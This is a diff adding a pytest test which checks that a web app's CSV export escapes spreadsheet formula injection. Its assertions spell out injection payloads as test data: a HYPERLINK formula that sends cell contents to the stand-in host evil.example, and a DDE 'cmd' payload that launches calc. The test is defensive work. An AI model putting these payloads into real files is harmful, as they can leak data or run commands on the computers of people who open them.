@@ -3,7 +3,10 @@ export, decisions, explanations, lists, admin and audit pages."""
 
 from __future__ import annotations
 
+import csv
+import io
 import re
+from pathlib import Path
 
 import pytest
 
@@ -11,7 +14,7 @@ from toex.ops.audit import AuditQuery, search_entries
 from toex.ops.db import OpsStore
 from toex.ops.models import MatchDecision
 
-from .conftest import TestClient, Users, session_for
+from .conftest import TestClient, Users, make_app, session_for
 
 M1, M2, M3 = "mention-000001", "mention-000002", "mention-000003"
 
@@ -148,6 +151,32 @@ def test_export_csv_is_marked_and_audited(
     assert r.headers["content-disposition"] == 'attachment; filename="person-P1.csv"'
     (entry,) = search_entries(store, AuditQuery(action="export"))
     assert entry.detail["rows"] == 3 and entry.purpose == "export test"
+
+
+def test_export_csv_neutralises_formulas(
+    store: OpsStore, users: Users, mini_assessed_warehouse: Path
+) -> None:
+    """Record values a spreadsheet would run (``=``, ``+``, ``-``, ``@``) are written as
+    text, with a leading quote; nothing else in the file changes."""
+    users.org("regional", ["cambs", "essex", "norfolk"], "regional")
+    uid = users.user("ann", "analyst", "regional")
+    with TestClient(make_app(store, mini_assessed_warehouse), follow_redirects=False) as c:
+        token = session_for(c, uid)
+        c.post("/purpose", data={"csrf_token": token, "purpose": "export test"})
+        r = c.get("/person/V3/export.csv")
+    lines = r.text.splitlines()
+    rows = {row["mention_id"]: row for row in csv.DictReader(io.StringIO("\n".join(lines[1:-1])))}
+    assert (
+        rows["mention-000011"]["address_raw"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
+    )
+    assert rows["mention-000011"]["email"] == "'@evil.example"
+    assert rows["mention-000012"]["address_raw"] == "'-2+3+cmd|' /C calc'!A0"
+    assert rows["mention-000012"]["cro_number"] == "'+1-1"
+    assert rows["mention-000012"]["forename"] == "ROSE"
+    assert lines[0] == lines[-1] == "OFFICIAL-SENSITIVE"
+    for line in lines:
+        for cell in next(csv.reader([line])):
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
 
 
 def test_network_page_and_expand(client: TestClient, analyst: str) -> None:
